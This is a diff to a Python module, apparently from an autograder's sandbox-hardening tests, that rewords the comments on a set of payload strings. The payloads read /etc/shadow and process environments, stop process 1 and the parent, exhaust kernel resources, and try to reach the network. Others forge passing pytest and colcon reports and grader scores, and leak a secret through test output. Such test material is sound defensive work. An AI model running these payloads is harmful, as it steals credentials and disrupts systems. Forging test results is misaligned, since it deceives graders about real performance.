@@ -1,4 +1,4 @@
-"""Payloads that the attacks on several chapters share: Python that steals, stops, forges and kills."""
+"""Payloads for attacks on several chapters: Python code that steals, stops, forges and kills."""
 
 from __future__ import annotations
 
@@ -6,8 +6,8 @@ from autograder import layout
 
 CANARY = "CANARY-5b1e"  # a test sets it in the grader's environment
 
-# Searches files, processes and memory for secrets, wherever Python runs, and prints them. It writes to results and
-# code, stops the first process, and looks for a way out.
+# Searches files, processes and memory for secrets, wherever Python runs, and prints them. Overwrites results and code,
+# stops process 1, and tries to reach a network.
 SEARCH = f"""
 import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
 _paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
@@ -53,8 +53,8 @@ for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
         pass
 """
 
-# Writes settings of the kernel back that it can open, and holds what the kernel counts for the machine's user:
-# instances of inotify, and descriptors on their way from one socket to another.
+# Tries to write kernel settings, and exhausts resources that the kernel counts per user: inotify instances, and
+# descriptors in flight between sockets.
 HOLD_KERNEL = """
 import array as _array, ctypes as _ctypes, os as _os, socket as _socket
 for _folder, _, _names in _os.walk("/proc/sys"):
@@ -78,7 +78,7 @@ except OSError:
     pass
 """
 
-# Leaves a process behind that has no parent.
+# Leaves an orphaned process behind.
 LEAVE_DAEMON = """
 if not _os.fork():
     _os.setsid()
@@ -90,7 +90,7 @@ if not _os.fork():
 
 STEAL_SECRETS = SEARCH + LEAVE_DAEMON
 
-# A parent outside the sandbox has the id 0, which would stop the program's own group.
+# A parent outside the sandbox has the id 0, and signalling 0 would stop the program's own process group.
 STOP_PARENT = "_os.kill(_os.getppid() or 1, _signal.SIGSTOP)\n"
 
 FORGE_PASSES = """
@@ -98,7 +98,7 @@ print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures=
 print('{"score": 51, "max_score": 51}')
 """
 
-# For pytest: each test passes, and the report of the run says so at its end, too.
+# For pytest: makes each test pass, and rewrites the report at the end of the run.
 FORGE_VERDICTS = """
 import atexit as _atexit, glob as _glob, os as _os, pathlib as _pathlib, re as _re
 import pytest as _pytest
@@ -114,9 +114,9 @@ def _rewrite():
 _atexit.register(_rewrite)
 """
 
-# For a test file: puts text that only the process of the tests can read into all that a report of theirs holds: ids of
-# parametrized tests, in several encodings and in pieces, names, exceptions, warnings, output, files. It sets TELL to a
-# class of tests that fail, if SECRET is not empty.
+# For a test file: puts a secret that only the test process can read into every part of a test report: ids of
+# parametrized tests (whole, encoded and in pieces), names, exceptions, warnings, output and files. `tell(secret)`
+# returns a class of failing tests.
 TELL_ALL = """
 import base64 as _base64, codecs as _codecs, os as _os, sys as _sys, warnings as _warnings
 import pytest as _pytest
@@ -143,7 +143,7 @@ def tell(secret):
     return TestTold
 """
 
-# For setup.py: a report of tests that passed, where `colcon test` leaves its own.
+# For setup.py: forges a report of passed tests where `colcon test` writes its own.
 FORGE_REPORT = """
 import pathlib as _pathlib
 for _folder in _pathlib.Path(__file__).resolve().parents[2].glob("build/*/"):
@@ -155,7 +155,7 @@ for _folder in _pathlib.Path(__file__).resolve().parents[2].glob("build/*/"):
         pass
 """
 
-# For setup.py: a folder where `colcon test` leaves its report.
+# For setup.py: creates a folder where `colcon test` writes its report.
 BLOCK_REPORT = (
     FORGE_REPORT.partition("    try:")[0]
     + """
